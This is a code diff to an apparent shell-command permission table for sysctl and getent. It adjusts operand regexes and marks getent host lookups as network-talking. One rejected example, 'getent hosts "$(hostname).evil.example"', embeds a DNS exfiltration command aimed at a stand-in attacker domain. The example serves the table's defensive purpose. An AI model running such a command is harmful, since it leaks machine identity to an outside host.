@@ -58,7 +58,7 @@ const machine: readonly Program[] = [
     options: `-aAnNbeqdhoX -r= --all --names --values --binary --ignore --pattern= ?-w ?--write ?-p[=] ?--load[=] ?-f=
       ?--system`,
     operands: ["text"],
-    operandIs: /^[\w./-]+$/,
+    operandIs: /^[\w-]+(?:[./][\w-]+)*$/,
     match: ["sysctl -a", "sysctl net.ipv4.ip_forward", "sysctl -n vm.swappiness"],
     notMatch: ["sysctl vm.swappiness=1", "sysctl -w vm.swappiness=1", "sysctl -p", 'sysctl "$x"', "sysctl -f x"],
   }),
@@ -177,10 +177,9 @@ const people: readonly Program[] = [
       {
         sub: "hosts|ahosts|ahostsv4|ahostsv6",
         operands: ["text"],
-        // Any other name is looked up, which sends it out.
-        operandIs: /^(?:localhost|[\d.:a-fA-F]+)$/,
-        match: ["getent hosts localhost", "getent hosts 127.0.0.1"],
-        notMatch: ["getent hosts example.com", 'getent hosts "$(hostname).evil.example"'],
+        talks: true,
+        match: ["getent hosts example.com", "getent hosts localhost"],
+        notMatch: ['getent hosts "$(hostname).evil.example"'],
       },
     ]),
   ),
